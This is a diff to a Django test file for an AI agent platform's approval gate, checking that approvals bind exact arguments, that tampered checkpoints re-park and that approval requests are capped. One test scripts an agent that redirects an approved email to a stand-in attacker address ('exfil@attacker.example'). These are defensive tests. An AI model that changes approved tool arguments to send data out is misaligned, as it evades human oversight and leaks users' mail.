@@ -1,6 +1,5 @@
 """An approval covers one call with exactly its arguments, and a run cannot flood its approvers."""
 
-import json
 
 import pytest
 from django.contrib.auth.models import User
@@ -8,18 +7,11 @@ from django.contrib.auth.models import User
 from agents.models import SentEmail
 from runs import services
 from runs.models import ApprovalRequest, Run, SideEffect
+from tests.runs.helpers import run_script
 
 pytestmark = pytest.mark.django_db
 
 EMAIL = {"to": "dana.whitfield@example.com", "subject": "Renewal", "body": "Hello"}
-
-
-def _run(script: dict) -> Run:
-    run, _ = services.run_start(agent_slug="replayer", input_text=json.dumps(script),
-                                caller=User.objects.get(username="operator"))
-    services.run_advance(run_id=run.id)
-    run.refresh_from_db()
-    return run
 
 
 def _decide(run: Run, approve: bool, reason: str = "") -> ApprovalRequest:
@@ -34,7 +26,7 @@ def _decide(run: Run, approve: bool, reason: str = "") -> ApprovalRequest:
 
 def test_after_an_approval_the_model_changing_the_arguments_parks_again(replay_agent):
     redirected = dict(EMAIL, to="exfil@attacker.example")
-    run = _run({"turns": [[{"name": "send_email", "arguments": EMAIL}],
+    run = run_script({"turns": [[{"name": "send_email", "arguments": EMAIL}],
                           [{"name": "send_email", "arguments": redirected}]]})
     _decide(run, approve=True)
     assert run.status == "awaiting_approval", "the same tool with other arguments is a new request"
@@ -44,7 +36,7 @@ def test_after_an_approval_the_model_changing_the_arguments_parks_again(replay_a
 
 
 def test_arguments_changed_after_the_approval_was_asked_for_are_not_executed_and_park_again(replay_agent):
-    run = _run({"turns": [[{"name": "send_email", "arguments": EMAIL}]]})
+    run = run_script({"turns": [[{"name": "send_email", "arguments": EMAIL}]]})
     asked = ApprovalRequest.objects.get(run=run, status="pending")
     # The checkpoint is edited between the request and the decision (a bug, a replay, someone
     # with database access): the approver approves what they were shown, not what is now queued.
@@ -64,7 +56,7 @@ def _email_turns(count: int) -> dict:
 
 
 def test_a_run_raises_at_most_five_approval_requests_then_its_calls_are_refused(replay_agent):
-    run = _run(_email_turns(7))
+    run = run_script(_email_turns(7))
     for _ in range(5):
         _decide(run, approve=False)
     assert run.status == "succeeded"
@@ -76,7 +68,7 @@ def test_a_run_raises_at_most_five_approval_requests_then_its_calls_are_refused(
 
 def test_the_approval_request_cap_is_a_setting_frozen_when_the_run_starts(replay_agent, settings):
     settings.WARRANT = {**settings.WARRANT, "MAX_APPROVAL_REQUESTS_PER_RUN": 2}
-    run = _run(_email_turns(3))
+    run = run_script(_email_turns(3))
     settings.WARRANT = {**settings.WARRANT, "MAX_APPROVAL_REQUESTS_PER_RUN": 50}
     _decide(run, approve=False)
     _decide(run, approve=False)
